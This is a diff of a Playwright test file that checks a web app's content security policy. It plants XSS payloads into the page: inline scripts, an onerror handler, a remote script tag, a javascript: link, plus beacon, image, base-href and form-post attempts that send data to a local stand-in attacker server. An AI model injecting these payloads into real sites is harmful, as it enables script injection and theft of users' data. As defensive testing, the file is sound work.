@@ -1,26 +1,20 @@
-import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import type { Page } from '@playwright/test';
+import { type LocalSite, startLocalSite } from './localSite';
 import { expect, signUp, test } from './test';
 
 /** The attacker's server, and the requests it has received. */
-let elsewhere: Server;
-let origin: string;
+let elsewhere: LocalSite;
 let arrived: string[] = [];
 
 test.beforeAll(async () => {
-  elsewhere = createServer((request, response) => {
+  elsewhere = await startLocalSite((request, response) => {
     arrived.push(request.url ?? '');
     response.setHeader('access-control-allow-origin', '*').setHeader('content-type', 'text/javascript');
     response.end('window.harmed = "a script from elsewhere";');
   });
-  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
-  origin = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
 });
-test.afterAll(() => void elsewhere.close());
-test.beforeEach(() => {
-  arrived = [];
-});
+test.afterAll(() => elsewhere.close());
+test.beforeEach(() => void (arrived = []));
 
 /** Injects HTML into the page, as an attacker could after an XSS hole in the app. */
 const plant = (page: Page, html: string) =>
@@ -52,7 +46,7 @@ test('injected HTML runs nothing', async ({ page }) => {
   await watchViolations(page);
   await plant(page, '<script>window.harmed = "an inline script"</script>');
   await plant(page, '<img src="data:," onerror="window.harmed = \'a handler\'">');
-  await plant(page, `<script src="${origin}/script.js"></script>`);
+  await plant(page, `<script src="${elsewhere.origin}/script.js"></script>`);
   await plant(page, '<object data="/assets/nothing.swf"></object>');
   await plant(page, '<a id="lure" href="javascript:window.harmed = \'a link\'">here</a>');
   await page.locator('#lure').dispatchEvent('click');
@@ -73,10 +67,10 @@ test('injected HTML sends nothing elsewhere', async ({ page }) => {
       () => 'refused',
     );
     return [asked, navigator.sendBeacon(`${url}/beacon`, 'rows')];
-  }, origin);
+  }, elsewhere.origin);
   expect(outcome[0]).toBe('refused');
-  await plant(page, `<img src="${origin}/picture?rows"><base href="${origin}/">`);
-  await plant(page, `<form id="form" action="${origin}/form" method="post"><input name="a"></form>`);
+  await plant(page, `<img src="${elsewhere.origin}/picture?rows"><base href="${elsewhere.origin}/">`);
+  await plant(page, `<form id="form" action="${elsewhere.origin}/form" method="post"><input name="a"></form>`);
   await page.evaluate(() => (document.getElementById('form') as HTMLFormElement).submit());
   await expect
     .poll(() => violations(page))
